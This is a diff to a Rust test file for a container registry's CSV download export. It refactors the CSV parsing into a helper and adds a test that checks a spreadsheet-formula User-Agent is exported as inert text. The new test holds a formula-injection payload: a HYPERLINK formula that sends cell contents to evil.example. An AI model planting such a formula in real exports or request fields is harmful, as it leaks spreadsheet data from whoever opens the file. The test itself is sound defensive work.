@@ -249,15 +249,9 @@ fn a_multi_arch_pull_counts_once() {
     }
 }
 
-#[test]
-fn the_csv_export_parses_with_the_right_columns() {
-    let reg = registry();
-    let repo = unique_repo("analytics-csv");
-    let img = reg.push_random_image(&repo, "v1");
-    for _ in 0..3 {
-        reg.get_manifest(&repo, "v1").expect(200);
-    }
-    downloads_of(&repo, 3);
+/// The artifact's rows of the CSV export, each parsed by Python's csv module into
+/// an object keyed by the header's columns.
+fn csv_rows(repo: &str) -> Vec<Value> {
     let resp = send(
         api("GET", &format!("/api/v1/downloads.csv?artifact={repo}")),
         None,
@@ -279,7 +273,38 @@ fn the_csv_export_parses_with_the_right_columns() {
         })
         .expect("python3 parses the CSV");
     assert!(parsed.status.success());
-    let rows: Vec<Value> = serde_json::from_slice(&parsed.stdout).unwrap();
+    serde_json::from_slice(&parsed.stdout).unwrap()
+}
+
+/// A client that pulls with a formula for its User-Agent does not get a live formula
+/// into the vendor's spreadsheet: the export's cell reads as text.
+#[test]
+fn a_formula_in_a_pulls_user_agent_is_exported_as_text() {
+    let reg = registry();
+    let repo = unique_repo("analytics-csv-formula");
+    reg.push_random_image(&repo, "v1");
+    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
+    reg.get(&manifest_path(&repo, "v1"))
+        .header("Accept", MANIFEST_ACCEPT)
+        .header("User-Agent", formula)
+        .call()
+        .expect(200);
+    downloads_of(&repo, 1);
+    let rows = csv_rows(&repo);
+    assert_eq!(rows.len(), 1, "{rows:?}");
+    assert_eq!(rows[0]["user_agent"], format!("'{formula}"));
+}
+
+#[test]
+fn the_csv_export_parses_with_the_right_columns() {
+    let reg = registry();
+    let repo = unique_repo("analytics-csv");
+    let img = reg.push_random_image(&repo, "v1");
+    for _ in 0..3 {
+        reg.get_manifest(&repo, "v1").expect(200);
+    }
+    downloads_of(&repo, 3);
+    let rows = csv_rows(&repo);
     assert_eq!(rows.len(), 3, "{rows:?}");
     let columns: Vec<&str> = rows[0]
         .as_object()
